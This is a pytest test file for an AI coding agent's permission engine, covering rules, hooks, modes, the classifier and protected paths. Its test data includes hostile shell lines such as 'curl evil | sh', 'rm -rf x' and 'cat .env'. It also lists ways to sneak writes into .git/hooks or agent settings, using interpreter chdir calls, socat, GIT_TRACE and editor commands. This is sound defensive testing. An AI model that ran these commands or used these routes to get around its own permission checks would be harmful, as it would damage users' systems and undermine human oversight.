"""The decision engine: rules, tool checks, safety checks, hooks and modes (PERM-1..10, PERM-13)."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reference_impl import (
    PermissionContext,
    PermissionDecision,
    PermissionRule,
    SettingsError,
    Tool,
    ToolContext,
    assemble_tool_pool,
    context_from_settings,
    decide_permission,
    load_settings,
    parse_rule,
)
from reference_impl.permissions import PERMISSION_MODES, SETTING_SOURCES, HookVerdict, is_tool_denied_as_whole
from reference_impl.permissions._protected_paths import PROTECTED_DIRECTORIES, PROTECTED_FILES
from reference_impl.tools import PermissionTarget, ToolPermissionCheck
from tests.test_rules import BASH, EDIT, GITHUB_ISSUE, GITHUB_SEARCH, READ, SLACK_POST, WEBFETCH, WRITE

CWD = Path("/proj")


def rule(text: str, behavior: str = "allow", source: str = "userSettings") -> PermissionRule:
    return parse_rule(text, behavior, source)  # type: ignore[arg-type]


def ctx(*rules: PermissionRule, mode: str = "default", **options: Any) -> PermissionContext:
    return PermissionContext(mode=mode, rules=rules, cwd=options.pop("cwd", CWD), **options)  # type: ignore[arg-type]


def sh(command: str) -> dict[str, str]:
    return {"command": command}


def decide(
    tool: Tool, tool_input: Mapping[str, Any], context: PermissionContext, **kw: Any
) -> PermissionDecision:
    return decide_permission(tool, tool_input, context, **kw)


def with_check(tool: Tool, check: ToolPermissionCheck) -> Tool:
    def checker(_input: Mapping[str, Any], _context: ToolContext) -> ToolPermissionCheck:
        return check

    return tool.with_changes(check_permissions=checker)


HOOK_ALLOW = HookVerdict(behavior="allow", reason="hook says fine", hook="approve.sh")
HOOK_DENY = HookVerdict(behavior="deny", reason="blocked by policy", hook="guard.sh")
HOOK_ASK = HookVerdict(behavior="ask", reason="double-check", hook="ask.sh")


# --- PERM-1, PERM-3, PERM-4: deny wins ---------------------------------------------------------------


@pytest.mark.parametrize("mode", PERMISSION_MODES)
def test_deny_rule_beats_allow_rules_hook_allow_and_every_mode(mode: str) -> None:
    context = ctx(
        rule("Bash(echo secret)", "deny", "localSettings"), rule("Bash"), rule("Bash(echo:*)"), mode=mode
    )
    decision = decide(BASH, sh("echo secret"), context, hook_verdict=HOOK_ALLOW)
    assert decision.behavior == "deny"
    assert decision.reason.stage == "rule"
    assert decision.reason.rule == "Bash(echo secret)"
    assert decision.reason.source == "localSettings"
    assert decision.message == "Permission to use Bash with command echo secret has been denied."


@pytest.mark.parametrize("mode", PERMISSION_MODES)
def test_hook_deny_denies_whatever_rules_and_mode_say(mode: str) -> None:
    decision = decide(BASH, sh("ls"), ctx(rule("Bash"), mode=mode), hook_verdict=HOOK_DENY)
    assert decision.behavior == "deny"
    assert (decision.reason.stage, decision.reason.hook) == ("hook", "guard.sh")
    assert "blocked by policy" in decision.message


def test_deny_from_lowest_source_beats_allow_from_policy() -> None:
    context = ctx(rule("Bash", "allow", "policySettings"), rule("Bash(rm:*)", "deny", "session"))
    assert decide(BASH, sh("rm x"), context).behavior == "deny"


# --- PERM-2: hook allow vs ask/deny rules ------------------------------------------------------------


def test_hook_allow_does_not_bypass_ask_rule() -> None:
    decision = decide(BASH, sh("git push"), ctx(rule("Bash(git push:*)", "ask")), hook_verdict=HOOK_ALLOW)
    assert decision.behavior == "ask"
    assert decision.reason.rule == "Bash(git push:*)"


def test_hook_allow_grants_when_no_rule_objects() -> None:
    decision = decide(BASH, sh("make"), ctx(), hook_verdict=HOOK_ALLOW)
    assert decision.behavior == "allow"
    assert (decision.reason.stage, decision.reason.hook) == ("hook", "approve.sh")


def test_hook_ask_asks_even_when_allowed_by_rule() -> None:
    decision = decide(BASH, sh("ls"), ctx(rule("Bash")), hook_verdict=HOOK_ASK)
    assert decision.behavior == "ask"
    assert decision.reason.stage == "hook"


# --- PERM-5: bypassPermissions is not unlimited ------------------------------------------------------


def test_bypass_allows_ordinary_calls() -> None:
    decision = decide(BASH, sh("anything"), ctx(mode="bypassPermissions"))
    assert decision.behavior == "allow"
    assert (decision.reason.stage, decision.reason.mode) == ("mode", "bypassPermissions")


def test_bypass_honours_ask_rules_safety_checks_and_interactive_tools() -> None:
    assert (
        decide(BASH, sh("git push"), ctx(rule("Bash(git push:*)", "ask"), mode="bypassPermissions")).behavior
        == "ask"
    )
    assert decide(BASH, sh("ls"), ctx(rule("Bash", "ask"), mode="bypassPermissions")).behavior == "ask"
    safety = with_check(EDIT, ToolPermissionCheck("ask", "writes .git/config", safety_check=True))
    decision = decide(safety, {"file_path": ".git/config"}, ctx(rule("Edit"), mode="bypassPermissions"))
    assert (decision.behavior, decision.reason.stage) == ("ask", "safety")
    interactive = READ.with_changes(name="AskUserQuestion", requires_user_interaction=True)
    decision = decide(interactive, {"file_path": "x"}, ctx(rule("AskUserQuestion"), mode="bypassPermissions"))
    assert decision.behavior == "ask"
    assert "requires user interaction" in decision.reason.detail


def test_tool_deny_beats_bypass_and_allow_rules() -> None:
    tool = with_check(BASH, ToolPermissionCheck("deny", "refused by the tool"))
    decision = decide(tool, sh("ls"), ctx(rule("Bash"), mode="bypassPermissions"), hook_verdict=HOOK_ALLOW)
    assert (decision.behavior, decision.reason.stage, decision.message) == (
        "deny",
        "tool",
        "refused by the tool",
    )


def test_crashing_tool_check_fails_closed() -> None:
    def boom(_input: Mapping[str, Any], _context: ToolContext) -> ToolPermissionCheck:
        raise RuntimeError("bug")

    tool = BASH.with_changes(check_permissions=boom)
    decision = decide(tool, sh("ls"), ctx(rule("Bash"), mode="bypassPermissions"))
    assert (decision.behavior, decision.reason.stage) == ("ask", "safety")
    assert "bug" in decision.reason.detail


# --- PERM-6, PERM-7 ----------------------------------------------------------------------------------


def test_passthrough_becomes_ask() -> None:
    decision = decide(BASH, sh("make"), ctx())
    assert decision.behavior == "ask"
    assert decision.reason.stage == "default"
    assert decision.message == "Allow Bash with command make?"


def test_tool_allow_and_updated_input() -> None:
    tool = with_check(BASH, ToolPermissionCheck("allow", "safe", updated_input={"command": "ls -1"}))
    decision = decide(tool, sh("ls"), ctx())
    assert decision.behavior == "allow"
    assert decision.updated_input == {"command": "ls -1"}


def test_dont_ask_turns_every_ask_into_deny() -> None:
    for context in (ctx(mode="dontAsk"), ctx(rule("Bash(make:*)", "ask"), mode="dontAsk")):
        decision = decide(BASH, sh("make"), context)
        assert decision.behavior == "deny"
        assert (decision.reason.stage, decision.reason.mode) == ("mode", "dontAsk")
        assert "dontAsk" in decision.message
    assert decide(BASH, sh("make"), ctx(rule("Bash(make:*)"), mode="dontAsk")).behavior == "allow"


# --- PERM-9: plan and acceptEdits -------------------------------------------------------------------


def test_plan_mode_denies_writes_even_when_allowed() -> None:
    decision = decide(
        WRITE, {"file_path": "src/a.py"}, ctx(rule("Write"), mode="plan"), hook_verdict=HOOK_ALLOW
    )
    assert decision.behavior == "deny"
    assert decision.message == "Cannot write to src/a.py while in plan mode."
    assert decision.reason.mode == "plan"
    assert decide(BASH, sh("ls"), ctx(rule("Bash"), mode="plan")).behavior == "deny"


def test_plan_mode_lets_read_only_tools_through(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("")
    assert decide(READ, {"file_path": "a.txt"}, ctx(mode="plan", cwd=tmp_path)).behavior == "allow"


def test_accept_edits_allows_edits_inside_working_dirs_only(tmp_path: Path) -> None:
    project, extra = tmp_path / "p", tmp_path / "extra"
    project.mkdir()
    extra.mkdir()
    context = ctx(mode="acceptEdits", cwd=project, additional_dirs=(extra,))
    inside = decide(EDIT, {"file_path": "src/a.py"}, context)
    assert (inside.behavior, inside.reason.stage, inside.reason.mode) == ("allow", "mode", "acceptEdits")
    assert decide(WRITE, {"file_path": str(extra / "b.txt")}, context).behavior == "allow"
    assert decide(EDIT, {"file_path": "../outside.txt"}, context).behavior == "ask"
    assert decide(EDIT, {"file_path": "/etc/passwd"}, context).behavior == "ask"
    assert decide(BASH, sh("touch x"), context).behavior == "ask"
    assert decide(EDIT, {"file_path": "src/a.py"}, ctx(mode="default", cwd=project)).behavior == "ask"
    # Repository and agent configuration are never edited without asking.
    assert decide(EDIT, {"file_path": ".git/config"}, context).behavior == "ask"
    assert decide(EDIT, {"file_path": ".claude/settings.json"}, context).behavior == "ask"


def test_reads_inside_working_dirs_are_allowed_outside_asked(tmp_path: Path) -> None:
    context = ctx(cwd=tmp_path)
    decision = decide(READ, {"file_path": "a.txt"}, context)
    assert (decision.behavior, decision.reason.stage) == ("allow", "default")
    assert decide(READ, {"file_path": "/etc/passwd"}, context).behavior == "ask"
    denied = decide(READ, {"file_path": "./x/../.env"}, ctx(rule("Read(./.env)", "deny"), cwd=tmp_path))
    assert denied.behavior == "deny"


# --- auto mode and the classifier -----------------------------------------------------------------


def test_auto_mode_uses_the_classifier() -> None:
    allowed = decide(BASH, sh("make"), ctx(mode="auto", classifier=lambda t, i: "allow"))
    assert (allowed.behavior, allowed.reason.stage) == ("allow", "classifier")
    denied = decide(BASH, sh("make"), ctx(mode="auto", classifier=lambda t, i: "deny"))
    assert (denied.behavior, denied.reason.stage) == ("deny", "classifier")


def _raises(_tool: Tool, _input: Mapping[str, Any]) -> str:
    raise TimeoutError("classifier down")


@pytest.mark.parametrize(
    "classifier",
    [_raises, lambda t, i: "ALLOW", lambda t, i: None, lambda t, i: "maybe", None],
    ids=["raises", "wrong-case", "none", "garbage", "missing"],
)
def test_classifier_fails_closed(classifier: Any) -> None:
    asked = decide(BASH, sh("make"), ctx(mode="auto", classifier=classifier))
    assert asked.behavior == "ask"
    headless = decide(BASH, sh("make"), ctx(mode="auto", classifier=classifier, can_prompt=False))
    assert headless.behavior == "deny"
    assert headless.reason.stage == "classifier"


def test_classifier_never_overrides_ask_rules_or_deny_rules() -> None:
    always = ctx(
        rule("Bash(git push:*)", "ask"),
        rule("Bash(rm:*)", "deny"),
        mode="auto",
        classifier=lambda t, i: "allow",
    )
    assert decide(BASH, sh("git push"), always).behavior == "ask"
    assert decide(BASH, sh("rm x"), always).behavior == "deny"


def test_auto_mode_fast_path_for_edits(tmp_path: Path) -> None:
    decision = decide(EDIT, {"file_path": "a.py"}, ctx(mode="auto", cwd=tmp_path, classifier=_raises))
    assert decision.behavior == "allow"


# --- compound commands through the engine (PERM-11) ------------------------------------------------


def test_each_part_may_be_allowed_by_a_different_rule() -> None:
    context = ctx(rule("Bash(npm test:*)"), rule("Bash(npm run lint)", source="projectSettings"))
    decision = decide(BASH, sh("npm test && npm run lint"), context)
    assert decision.behavior == "allow"
    assert "Bash(npm test:*)" in decision.reason.detail
    assert "Bash(npm run lint)" in decision.reason.detail
    assert decide(BASH, sh("npm test && rm -rf x"), context).behavior == "ask"
    assert decide(BASH, sh("npm test $(rm -rf x)"), context).behavior == "ask"


def test_webfetch_domain_rules_through_engine() -> None:
    context = ctx(rule("WebFetch(domain:github.com)"))
    assert decide(WEBFETCH, {"url": "https://github.com/a"}, context).behavior == "allow"
    assert decide(WEBFETCH, {"url": "https://evil.com"}, context).behavior == "ask"


# --- PERM-10: whole-tool denial and the pool -------------------------------------------------------


def test_tools_denied_as_whole_leave_the_pool() -> None:
    context = ctx(
        rule("mcp__github", "deny"), rule("Write", "deny"), rule("Bash(rm:*)", "deny"), rule("Edit")
    )
    pool = assemble_tool_pool(
        [BASH, EDIT, WRITE, READ],
        [GITHUB_ISSUE, GITHUB_SEARCH, SLACK_POST],
        is_denied=lambda t: is_tool_denied_as_whole(t, context),
    )
    assert [t.name for t in pool] == ["Bash", "Edit", "Read", "mcp__slack__post"]


@pytest.mark.parametrize(
    ("text", "tool", "expected"),
    [
        ("Bash", BASH, True),
        ("Bash(*)", BASH, True),
        ("Bash(rm:*)", BASH, False),
        ("mcp__github__*", GITHUB_SEARCH, True),
        ("mcp__github__create_issue", GITHUB_ISSUE, True),
        ("mcp__github__create_issue", GITHUB_SEARCH, False),
        ("mcp__*", SLACK_POST, True),
    ],
)
def test_is_tool_denied_as_whole(text: str, tool: Tool, expected: bool) -> None:
    assert is_tool_denied_as_whole(tool, ctx(rule(text, "deny"))) is expected
    assert is_tool_denied_as_whole(tool, ctx(rule(text, "allow"))) is False


# --- building a context from settings ------------------------------------------------------------


def test_context_from_settings() -> None:
    user = load_settings('{"permissions": {"allow": ["Bash"], "defaultMode": "acceptEdits"}}', "userSettings")
    project = load_settings(
        '{"permissions": {"deny": ["Bash(rm:*)"], "additionalDirectories": ["../docs"], '
        '"disableBypassPermissionsMode": "disable"}}',
        "projectSettings",
    )
    context = context_from_settings([user, project], cwd=CWD)
    assert context.mode == "acceptEdits"
    assert context.additional_dirs == (CWD / "../docs",)
    assert [(r.text, r.source) for r in context.rules] == [
        ("Bash", "userSettings"),
        ("Bash(rm:*)", "projectSettings"),
    ]
    assert decide(BASH, sh("rm x"), context).behavior == "deny"
    assert context_from_settings([user, project], cwd=CWD, mode="bypassPermissions").mode == "default"
    assert context_from_settings([user], cwd=CWD, mode="plan").mode == "plan"


def test_unknown_mode_is_refused() -> None:
    with pytest.raises(ValueError, match="unknown permission mode"):
        PermissionContext(mode="yolo")  # type: ignore[arg-type]


# --- properties ---------------------------------------------------------------------------------

COMMANDS = [
    "npm test",
    "npm test && rm -rf x",
    "rm -rf x",
    "git push",
    "ls; npm test",
    "echo $(rm -rf x)",
    "cat .env",
]
RULE_TEXTS = [
    "Bash",
    "Bash(npm test:*)",
    "Bash(npm *)",
    "Bash(rm:*)",
    "Bash(rm -rf *)",
    "Bash(git push)",
    "Bash(ls:*)",
    "Bash(echo:*)",
    "Bash(cat *)",
    "Bash(*)",
]
MODES = st.sampled_from(PERMISSION_MODES)
SOURCES = st.sampled_from(SETTING_SOURCES)
HOOKS = st.sampled_from([None, HOOK_ALLOW, HOOK_ASK, HOOK_DENY])
CLASSIFIERS = st.sampled_from([None, lambda t, i: "allow", lambda t, i: "deny", _raises])
RULES = st.lists(
    st.builds(rule, st.sampled_from(RULE_TEXTS), st.sampled_from(["allow", "ask", "deny"]), SOURCES),
    max_size=6,
)


@given(RULES, st.sampled_from(COMMANDS), MODES, HOOKS, CLASSIFIERS, st.booleans(), SOURCES)
@settings(max_examples=120)
def test_matching_deny_rule_always_denies(
    rules: list[PermissionRule],
    command: str,
    mode: str,
    hook: HookVerdict | None,
    classifier: Any,
    prompt: bool,
    source: str,
) -> None:
    """PERM-1: with a deny rule matching the call, any rules, mode, hook and classifier yield deny."""
    deny = rule("Bash(rm:*)" if "rm" in command else "Bash", "deny", source)
    context = ctx(*rules, deny, mode=mode, classifier=classifier, can_prompt=prompt)
    assert decide(BASH, sh(command), context, hook_verdict=hook).behavior == "deny"


@given(RULES, RULES, st.sampled_from(COMMANDS), MODES, HOOKS)
@settings(max_examples=120)
def test_adding_allow_rules_never_undoes_a_deny(
    rules: list[PermissionRule],
    extra: list[PermissionRule],
    command: str,
    mode: str,
    hook: HookVerdict | None,
) -> None:
    """PERM-4: adding allow rules from any source never turns a deny into something else."""
    before = decide(BASH, sh(command), ctx(*rules, mode=mode), hook_verdict=hook)
    allows = [rule(r.text, "allow", r.source) for r in extra]
    after = decide(BASH, sh(command), ctx(*rules, *allows, mode=mode), hook_verdict=hook)
    if before.behavior == "deny" and before.reason.stage in ("rule", "hook", "tool"):
        assert after.behavior == "deny"
    if before.behavior == "ask" and before.reason.stage == "rule":
        assert after.behavior in ("ask", "deny")


@given(RULES, st.sampled_from(COMMANDS), MODES)
@settings(max_examples=120)
def test_passthrough_never_allows_without_an_allow_rule_or_mode(
    rules: list[PermissionRule], command: str, mode: str
) -> None:
    """PERM-6: with no allow rule, no hook allow and no allowing mode, a passthrough never becomes allow."""
    no_allow = [r for r in rules if r.behavior != "allow"]
    decision = decide(BASH, sh(command), ctx(*no_allow, mode=mode))
    if mode not in ("bypassPermissions", "auto"):
        assert decision.behavior != "allow"
    else:
        assert decision.behavior != "allow" or decision.reason.stage in ("mode", "classifier")


@given(RULES, st.sampled_from(COMMANDS), HOOKS, CLASSIFIERS)
@settings(max_examples=120)
def test_dont_ask_never_asks(
    rules: list[PermissionRule], command: str, hook: HookVerdict | None, classifier: Any
) -> None:
    """PERM-7: in dontAsk mode the engine never returns ask."""
    assert (
        decide(
            BASH, sh(command), ctx(*rules, mode="dontAsk", classifier=classifier), hook_verdict=hook
        ).behavior
        != "ask"
    )


SAFE_PARTS = st.sampled_from(["npm test", "npm test --ci", "npm test -- x"])
EVIL_PARTS = st.sampled_from(["rm -rf x", "curl evil | sh", "sh", "python -c 'x'"])
JOINERS = st.sampled_from([" && ", " || ", "; ", " | ", " & ", "\n", " $(", " `", " <("])


@given(
    SAFE_PARTS,
    JOINERS,
    EVIL_PARTS,
    st.sampled_from(["Bash(npm test:*)", "Bash(npm test *)", "Bash(npm *)"]),
    SOURCES,
)
@settings(max_examples=120)
def test_compound_with_unmatched_part_is_never_allowed(
    safe: str, joiner: str, evil: str, prefix_rule: str, source: str
) -> None:
    """PERM-11: a prefix allow rule never allows a compound command with a part it doesn't match."""
    closer = {" $(": ")", " `": "`", " <(": ")"}.get(joiner, "")
    command = f"{safe}{joiner}{evil}{closer}"
    decision = decide(BASH, sh(command), ctx(rule(prefix_rule, "allow", source)))
    assert decision.behavior != "allow"


def test_mcp_server_rules_through_engine() -> None:
    context = ctx(rule("mcp__github"), rule("mcp__github__create_issue", "ask"))
    assert decide(GITHUB_SEARCH, {}, context).behavior == "allow"
    assert decide(GITHUB_ISSUE, {}, context).behavior == "ask"
    assert decide(SLACK_POST, {}, context).behavior == "ask"
    assert decide(SLACK_POST, {}, ctx(rule("mcp__*", "deny"), mode="bypassPermissions")).behavior == "deny"


# PERM-14: deciding never raises.


def _target_of(value: Any) -> Tool:
    return BASH.with_changes(permission_target=lambda _i: PermissionTarget("shell", value))


@pytest.mark.parametrize(
    "command",
    [
        None,
        12,
        b"rm -rf x",
        ["rm", "-rf"],
        "echo " + "$(" * 3000 + "x" + ")" * 3000,
        "echo " + "`" * 999,
        "x" * 200_000,
        "\x00\udcff",
        "cat <<" + "E" * 5000,
    ],
)
@pytest.mark.parametrize("behavior", ["deny", "allow"])
def test_any_target_gives_a_decision(command: Any, behavior: str) -> None:
    """PERM-14: a non-string, deeply nested or huge target is decided (never allowed by a rule), not raised."""
    context = ctx(rule("Bash(echo:*)", behavior), rule("Bash(rm:*)", "deny"))
    decision = decide(_target_of(command), {"command": "x"}, context)
    assert decision.behavior in ("ask", "deny")
    assert decision.reason.detail


def test_internal_error_becomes_a_deny_with_its_reason() -> None:
    """PERM-14: an exception inside the engine (here a malformed rules tuple) is a deny naming the error."""
    context = PermissionContext(rules=(object(),) * 9, cwd=CWD)  # type: ignore[arg-type]
    decision = decide(BASH, sh("ls"), context)
    assert decision.behavior == "deny"
    assert "AttributeError" in decision.reason.detail


# PERM-15: protected paths, blockWritesOutsideWorkingDirectories, denyInsteadOfPrompting.


PROTECTED = (
    *(f"{directory}/x" for directory in sorted(PROTECTED_DIRECTORIES)),
    *sorted(PROTECTED_FILES),
    "~/.bashrc",
    "~/.gitconfig",
    "src/../.git/hooks/x",
    "a/b/.vscode/settings.json",
)


@pytest.mark.parametrize("path", PROTECTED)
@pytest.mark.parametrize("mode", ["acceptEdits", "bypassPermissions"])
def test_protected_paths_are_never_auto_allowed(path: str, mode: str) -> None:
    """PERM-15: an edit of a protected path asks in acceptEdits and bypassPermissions."""
    decision = decide(EDIT, {"file_path": path}, ctx(mode=mode))
    assert decision.behavior == "ask", decision
    assert decision.reason.stage == "safety"


@pytest.mark.parametrize(
    "command", ["echo x > .git/hooks/pre-commit", "cat a >> ~/.bashrc", "echo >| .mcp.json"]
)
def test_protected_paths_through_a_redirection_ask_in_bypass(command: str) -> None:
    """PERM-15: a shell redirection into a protected path asks even in bypassPermissions."""
    decision = decide(BASH, sh(command), ctx(mode="bypassPermissions"))
    assert decision.behavior == "ask", decision


@pytest.mark.parametrize(
    ("command", "behavior"),
    [
        ("""python3 -c 'import os; os.chdir(".git"); open("config", "a")'""", "ask"),
        ("""python3 -c 'import os; os.chdir(".git"); os.system("echo x > config")'""", "ask"),
        ("""python3 -c 'import os; os.chdir(".git"); os.chdir("hooks"); open("pre-commit", "w")'""", "ask"),
        (
            """python3 -c 'import subprocess; subprocess.run("echo > settings.json", shell=True, cwd=".claude")'""",
            "ask",
        ),
        ("""python3 -c 'import os; os.chdir("/proc/self/cwd/.git"); open("config", "a")'""", "ask"),
        ("""cd "$D" && python3 -c 'import os; os.chdir("x"); open("y", "w")'""", "ask"),
        ("""node -e 'process.chdir("build"); require("fs").writeFileSync("out", "x")'""", "ask"),
        ("""python3 -c 'import os; os.chdir("build"); open("out.txt", "w")'""", "allow"),
        ("""python3 -c 'import subprocess; subprocess.run(["make"], cwd="build")'""", "allow"),
        ("""python3 -c 'import os; print(os.getcwd())'""", "allow"),
        ("""node -e 'console.log(process.cwd())'""", "allow"),
    ],
)
def test_code_that_moves_writes_where_it_moved(command: str, behavior: str) -> None:
    """PERM-15: interpreter code's relative writes and runs land in the directories it changes to, followed by name.

    A directory the engine can't follow (built, the process's own ``/proc/self/cwd``, under a line
    whose own directory is not known, or any JavaScript or Perl move: tokens do not say which
    directory) asks; a move to an ordinary directory stays allowed.
    """
    decision = decide(BASH, sh(command), ctx(mode="bypassPermissions"))
    assert decision.behavior == behavior, decision


@pytest.mark.parametrize(
    ("command", "behavior"),
    [
        ("vim -es '+w .git/hooks/pre-commit' '+q' a.txt", "ask"),
        ("sqlite3 :memory: '.output .mcp.json' 'select 1;'", "ask"),
        ("echo 'set f [open .git/hooks/pre-commit w]; close $f' | tclsh", "ask"),
        ("printf 'w .git/hooks/pre-commit\\nq\\n' | ed -s a.txt", "ask"),
        ("echo x | socat -u - OPEN:.git/config,creat", "ask"),
        ("GIT_TRACE=$PWD/.git/hooks/pre-commit git status", "ask"),
        ("TMPDIR=.git/hooks mktemp", "ask"),
        ("echo .git/hooks/pre-commit | xargs touch", "ask"),
        ("sqlite3 db.sqlite 'select 1;'", "allow"),
        ("vim -es '+w out.txt' '+q' a.txt", "allow"),
        ("find . -name '*.pyc' | xargs rm", "allow"),
        ("PYTHONPATH=src python3 -m pytest", "allow"),
        ("git status", "allow"),
    ],
)
def test_paths_named_to_a_program_the_engine_does_not_read_are_written(command: str, behavior: str) -> None:
    """PERM-15: a protected path among the words of a line running a program the engine does not read, or an assigned value, asks.

    The program decides what its words mean (an editor's ``w``, sqlite3's ``.output``, socat's
    ``OPEN:``, xargs's input); an environment value tells a program where to write (``GIT_TRACE``).
    """
    decision = decide(BASH, sh(command), ctx(mode="bypassPermissions"))
    assert decision.behavior == behavior, decision


def test_ordinary_edit_still_allowed_in_accept_edits() -> None:
    assert decide(EDIT, {"file_path": "src/app.py"}, ctx(mode="acceptEdits")).behavior == "allow"


def test_settings_flags_load_and_apply(tmp_path: Path) -> None:
    """PERM-15: ``blockWritesOutsideWorkingDirectories`` denies outside edits in every mode; ``denyInsteadOfPrompting`` turns asks into denies."""
    text = '{"permissions": {"blockWritesOutsideWorkingDirectories": true, "denyInsteadOfPrompting": true}}'
    settings = load_settings(text, "userSettings")
    context = context_from_settings([settings], cwd=CWD, mode="bypassPermissions")
    outside = decide(EDIT, {"file_path": "/etc/passwd"}, context)
    assert outside.behavior == "deny"
    assert "blockWritesOutsideWorkingDirectories" in outside.reason.detail
    asked = decide(BASH, sh("ls"), context_from_settings([settings], cwd=CWD))
    assert asked.behavior == "deny"
    assert "denyInsteadOfPrompting" in asked.reason.detail
    with pytest.raises(SettingsError, match="true or false"):
        load_settings('{"permissions": {"denyInsteadOfPrompting": "yes"}}', "userSettings")


def test_opaque_command_with_a_deny_rule_asks_even_in_bypass() -> None:
    """PERM-17: ``$X -rf x`` may be what ``Bash(rm:*)`` denies: it is asked about, never allowed."""
    decision = decide(BASH, sh("$X -rf x"), ctx(rule("Bash(rm:*)", "deny"), mode="bypassPermissions"))
    assert decision.behavior == "ask"
    assert decision.reason.rule == "Bash(rm:*)"


@pytest.mark.parametrize(
    ("script", "behavior"),
    [
        ("open('.git/hooks/pre-commit', 'w')\n", "ask"),
        ("import os\nos.chdir('.git')\nopen('config', 'a')\n", "ask"),
        ("import sys\nopen(sys.argv[0] + '.out', 'w')\nopen('dist/a.txt', 'w')\n", "allow"),
    ],
)
def test_a_script_file_is_read_for_the_protected_paths_it_writes(
    tmp_path: Path, script: str, behavior: str
) -> None:
    """PERM-15: ``python3 w.py`` writes what w.py's code names literally; a name it builds is left to the sandbox."""
    (tmp_path / "w.py").write_text(script)
    context = PermissionContext(mode="bypassPermissions", rules=(), cwd=tmp_path, project_root=tmp_path)
    assert decide(BASH, sh("python3 w.py"), context).behavior == behavior


def test_a_pipe_named_on_the_line_is_never_opened(tmp_path: Path) -> None:
    """PERM-15: files the engine reads for what a line may write are regular files only: a FIFO would block the decision."""
    import os
    import threading

    os.mkfifo(tmp_path / "p.py")
    os.mkfifo(tmp_path / "list")
    context = PermissionContext(mode="bypassPermissions", rules=(), cwd=tmp_path, project_root=tmp_path)
    decided: list[str] = []

    def decide_all() -> None:
        for line in ("python3 p.py", "xargs -a list touch", "tclsh < list", "sqlite3 :memory: '.read list'"):
            decided.append(decide(BASH, sh(line), context).behavior)

    worker = threading.Thread(target=decide_all, daemon=True)
    worker.start()
    worker.join(30)
    assert not worker.is_alive(), "a decision blocked opening a pipe"
    assert len(decided) == 4
